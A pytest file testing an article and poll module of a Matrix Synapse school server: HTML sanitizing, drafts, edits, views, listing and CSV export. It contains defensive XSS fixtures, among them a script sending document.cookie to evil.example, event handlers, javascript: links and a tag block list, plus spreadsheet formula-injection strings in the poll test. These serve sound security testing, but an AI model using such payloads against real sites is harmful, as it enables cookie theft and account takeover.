"""Articles against the real Synapse: sanitizing, publishing, edits, views, listing."""

import asyncio
from typing import Any

import pytest

from parta_common import events
from synapse_module.content.sanitize import clean_html
from tests.content_school import (
    PNG,
    ClassRoom,
    api,
    make_school_class,
    q,
    room_events,
    send,
    upload,
)
from tests.harness import RunningHomeserver, User


@pytest.fixture(scope="module")
def school(synapse: RunningHomeserver) -> ClassRoom:
    """One school and class for this file's tests (building one takes seconds)."""
    return make_school_class(synapse, students=3)


NASTY = (
    '<p onclick="steal()">Дорогие родители!</p>'
    "<script>fetch('https://evil.example/'+document.cookie)</script>"
    '<iframe src="https://evil.example/"></iframe>'
    '<a href="javascript:alert(1)">ссылка</a> <a href="https://school.example/">сайт</a>'
    '<img src="https://evil.example/track.png" onerror="steal()">'
    "<style>body{display:none}</style><b>Собрание в пятницу</b>"
)


def assert_safe(html: str) -> None:
    lowered = html.lower()
    for bad in (
        "<script",
        "<iframe",
        "<style",
        "onclick",
        "onerror",
        "javascript:",
        "evil.example",
    ):
        assert bad not in lowered, (bad, html)


def test_sanitizer_removes_scripts_iframes_and_handlers() -> None:
    clean = clean_html(NASTY)
    assert_safe(clean)
    assert "<b>Собрание в пятницу</b>" in clean
    assert 'href="https://school.example/"' in clean
    assert "Дорогие родители!" in clean
    assert (
        clean_html('<img src="mxc://localhost/abc" alt="x">')
        == '<img src="mxc://localhost/abc" alt="x">'
    )
    assert (
        clean_html('<div><svg onload="x()"><form action="/x"><input></form></div>') == "<div></div>"
    )


async def publish(
    synapse: RunningHomeserver, user: User, room_id: str, **fields: Any
) -> tuple[int, Any]:
    body = {"title": "Собрание", "html": "<p>Текст</p>", **fields}
    return await api(synapse, user, "POST", f"/rooms/{q(room_id)}/articles", body)


async def test_published_article_reads_as_a_formatted_message(
    synapse: RunningHomeserver, school: ClassRoom
) -> None:
    status, uploaded = await upload(synapse, school.teacher, PNG, "image/png")
    assert status == 200, uploaded
    cover = uploaded["content_uri"]
    status, article = await publish(
        synapse, school.teacher, school.room_id, title="Родительское собрание", topic="собрания",
        cover=cover, html=NASTY,
    )  # fmt: skip
    assert status == 201, article
    assert article["status"] == "published"
    assert article["revisions"] == 1
    timeline = await room_events(synapse, school.students[0], school.room_id)
    event = next(e for e in timeline if e["event_id"] == article["event_id"])
    content = event["content"]
    assert content["msgtype"] == "m.text"
    assert content["format"] == "org.matrix.custom.html"
    assert content["formatted_body"].startswith("<h2>Родительское собрание</h2>")
    assert f'<img src="{cover}"' in content["formatted_body"]
    assert content["body"].startswith("Родительское собрание\n\n")
    assert content[events.ARTICLE]["title"] == "Родительское собрание"
    assert content[events.ARTICLE]["topic"] == "собрания"
    assert content[events.ARTICLE]["cover"] == cover
    assert_safe(content["formatted_body"])
    assert "steal" not in content["body"]
    assert "evil" not in content["body"]
    status, fetched = await api(
        synapse, school.students[0], "GET", f"/articles/{article['article_id']}"
    )
    assert status == 200, fetched
    assert fetched["title"] == "Родительское собрание"
    assert_safe(fetched["html"])


async def test_html_sent_directly_is_sanitized_by_replacement(
    synapse: RunningHomeserver, school: ClassRoom
) -> None:
    content = {
        "msgtype": "m.text",
        "body": "Новости",
        "format": "org.matrix.custom.html",
        "formatted_body": NASTY,
        events.ARTICLE: {"title": "Новости", "topic": "школа"},
    }
    status, sent = await send(synapse, school.teacher, school.room_id, "m.room.message", content)
    assert status == 200, sent
    timeline = await room_events(synapse, school.students[0], school.room_id)
    stored = next(e for e in timeline if e["event_id"] == sent["event_id"])
    assert_safe(stored["content"]["formatted_body"])
    assert "<b>Собрание в пятницу</b>" in stored["content"]["formatted_body"]
    # Students do not publish articles, directly or through the API.
    status, body = await send(
        synapse, school.students[0], school.room_id, "m.room.message", content
    )
    assert status == 403, body
    status, body = await publish(synapse, school.students[0], school.room_id)
    assert status == 403, body
    # A malformed article block is refused.
    bad = {**content, events.ARTICLE: {"topic": "без заголовка"}}
    status, body = await send(synapse, school.teacher, school.room_id, "m.room.message", bad)
    assert status == 400, body
    assert body["errcode"] == "M_BAD_JSON"
    assert "title" in body["error"]
    bad_cover = {**content, events.ARTICLE: {"title": "T", "cover": "https://x/y.png"}}
    status, body = await send(synapse, school.teacher, school.room_id, "m.room.message", bad_cover)
    assert status == 400, body
    assert "cover" in body["error"]


async def test_edits_keep_history_and_drafts_stay_private(
    synapse: RunningHomeserver, school: ClassRoom
) -> None:
    status, draft = await publish(
        synapse, school.teacher, school.room_id, title="Черновик", html="<p>v1</p>", publish=False
    )
    assert status == 201, draft
    assert draft["status"] == "draft"
    assert draft["event_id"] is None
    article_id = draft["article_id"]
    status, body = await api(synapse, school.students[0], "GET", f"/articles/{article_id}")
    assert status == 404, body
    status, body = await api(
        synapse,
        school.teacher,
        "PATCH",
        f"/articles/{article_id}",
        {"html": "<p>v2<script>x</script></p>"},
    )
    assert status == 200, body
    assert body["html"] == "<p>v2</p>"
    status, body = await api(synapse, school.teacher, "POST", f"/articles/{article_id}/publish")
    assert status == 200, body
    original_event = body["event_id"]
    status, body = await api(
        synapse,
        school.teacher,
        "PATCH",
        f"/articles/{article_id}",
        {"title": "Итоговая версия", "html": "<p>v3</p>"},
    )
    assert status == 200, body
    assert body["revisions"] == 2
    assert body["title"] == "Итоговая версия"
    timeline = await room_events(synapse, school.students[0], school.room_id)
    edit = next(
        e for e in timeline if e["content"].get("m.relates_to", {}).get("rel_type") == "m.replace"
    )
    assert edit["content"]["m.relates_to"]["event_id"] == original_event
    assert "<p>v3</p>" in edit["content"]["m.new_content"]["formatted_body"]
    status, history = await api(
        synapse, school.students[0], "GET", f"/articles/{article_id}/revisions"
    )
    assert status == 200, history
    assert [r["title"] for r in history["revisions"]] == ["Черновик", "Итоговая версия"]
    assert "<p>v2</p>" in history["revisions"][0]["html"]
    # Only the author edits; publishing twice is refused.
    status, body = await api(
        synapse, school.admin, "PATCH", f"/articles/{article_id}", {"title": "X"}
    )
    assert status == 403, body
    status, body = await api(synapse, school.teacher, "POST", f"/articles/{article_id}/publish")
    assert status == 409 and body["errcode"] == "M_BAD_STATE", body


async def test_views_count_once_per_person_and_lists_sort(
    synapse: RunningHomeserver, school: ClassRoom
) -> None:
    s1, s2 = school.students[:2]
    # The school's articles room: administrators publish there, everyone reads.
    room = school.school_rooms["articles"]
    ids = {}
    for title, topic in [("Б-статья", "спорт"), ("А-статья", "наука"), ("В-статья", "спорт")]:
        status, article = await publish(synapse, school.admin, room, title=title, topic=topic)
        assert status == 201, article
        ids[title] = article["article_id"]
    for viewer, title in [(s1, "А-статья"), (s1, "А-статья"), (s2, "А-статья"), (s1, "В-статья")]:
        status, body = await api(synapse, viewer, "POST", f"/articles/{ids[title]}/views")
        assert status == 200, body
    status, body = await api(synapse, s1, "POST", f"/articles/{ids['А-статья']}/views")
    assert body == {"counted": False, "views": 2}

    async def titles(**params: str) -> list[str]:
        status, body = await api(
            synapse,
            s1,
            "GET",
            "/articles",
            params={"room_id": room, "author": school.admin.user_id, **params},
        )
        assert status == 200, body
        return [a["title"] for a in body["articles"]]

    assert await titles(sort="views") == ["А-статья", "В-статья", "Б-статья"]
    assert await titles() == ["В-статья", "А-статья", "Б-статья"]
    assert await titles(topic="спорт") == ["В-статья", "Б-статья"]
    assert (await titles(sort="topic"))[0] == "А-статья"
    assert await titles(sort="views", limit="1") == ["А-статья"]
    status, body = await api(
        synapse,
        s1,
        "GET",
        "/articles",
        params={"room_id": room, "author": school.admin.user_id, "limit": "2"},
    )
    assert body["next_batch"]
    status, page2 = await api(
        synapse,
        s1,
        "GET",
        "/articles",
        params={
            "room_id": room,
            "author": school.admin.user_id,
            "limit": "2",
            "from": body["next_batch"],
        },
    )
    assert [a["title"] for a in page2["articles"]] == ["Б-статья"]
    assert page2["next_batch"] is None


async def test_an_element_edit_of_an_article_is_indexed_and_sanitized(
    synapse: RunningHomeserver,
    school: ClassRoom,
) -> None:
    status, article = await publish(synapse, school.teacher, school.room_id, title="Объявление")
    assert status == 201, article
    edit = {
        "msgtype": "m.text",
        "body": "* Новое",
        "format": "org.matrix.custom.html",
        "formatted_body": "* <b>Новое</b><script>x()</script>",
        "m.new_content": {
            "msgtype": "m.text",
            "body": "Новое",
            "format": "org.matrix.custom.html",
            "formatted_body": "<b>Новое</b><script>x()</script>",
        },
        "m.relates_to": {"rel_type": "m.replace", "event_id": article["event_id"]},
    }
    status, sent = await send(synapse, school.teacher, school.room_id, "m.room.message", edit)
    assert status == 200, sent
    timeline = await room_events(synapse, school.students[0], school.room_id)
    stored = next(e for e in timeline if e["event_id"] == sent["event_id"])
    assert stored["content"]["m.new_content"]["formatted_body"] == "<b>Новое</b>"
    loop = asyncio.get_running_loop()
    deadline = loop.time() + 20
    while True:
        status, body = await api(
            synapse, school.students[0], "GET", f"/articles/{article['article_id']}"
        )
        if body["revisions"] == 2 or loop.time() > deadline:
            break
        await asyncio.sleep(0.1)
    assert body["revisions"] == 2
    assert body["html"] == "<b>Новое</b>"
    assert body["title"] == "Объявление"


async def test_rows_written_around_the_sanitizer_are_served_clean(
    synapse: RunningHomeserver, school: ClassRoom
) -> None:
    """Whatever wrote an article row (an event from another server, an older module, a
    hand-edited table), lists, reads and revisions serve safe HTML and an mxc cover only;
    CSV exports neutralise formulas in what people typed (issue 17, item 11)."""
    status, article = await publish(synapse, school.teacher, school.room_id, title="Чисто")
    assert status == 201, article
    article_id = article["article_id"]
    synapse.sql(
        "UPDATE content_articles SET html = ?, cover = ? WHERE article_id = ?",
        (NASTY, "javascript:alert(1)", article_id),
    )
    synapse.sql(
        "UPDATE content_article_revisions SET html = ?, cover = ? WHERE article_id = ?",
        (NASTY, "https://evil.example/c.png", article_id),
    )
    reader = school.students[0]
    status, fetched = await api(synapse, reader, "GET", f"/articles/{article_id}")
    assert status == 200, fetched
    assert_safe(fetched["html"])
    assert "<b>Собрание в пятницу</b>" in fetched["html"]
    assert fetched["cover"] is None
    status, revisions = await api(synapse, reader, "GET", f"/articles/{article_id}/revisions")
    assert status == 200, revisions
    assert revisions["revisions"]
    for revision in revisions["revisions"]:
        assert_safe(revision["html"])
        assert revision["cover"] is None
    status, listed = await api(
        synapse, reader, "GET", "/articles", params={"room_id": school.room_id}
    )
    assert status == 200, listed
    mine = next(a for a in listed["articles"] if a["article_id"] == article_id)
    assert mine["cover"] is None

    status, poll = await api(
        synapse,
        school.teacher,
        "POST",
        f"/rooms/{q(school.room_id)}/polls",
        {
            "question": '=HYPERLINK("https://evil.example")',
            "answers": [{"text": "=1+1"}, {"text": "@SUM(A1)"}, {"text": "-2"}, {"text": "нет"}],
        },
    )
    assert status == 201, poll
    status, csv_body = await api(
        synapse, school.teacher, "GET", f"/polls/{poll['poll_id']}/results.csv"
    )
    assert status == 200
    text = csv_body.decode("utf-8-sig") if isinstance(csv_body, bytes) else str(csv_body)
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=1+1" in cells and "'@SUM(A1)" in cells and "'-2" in cells and "нет" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
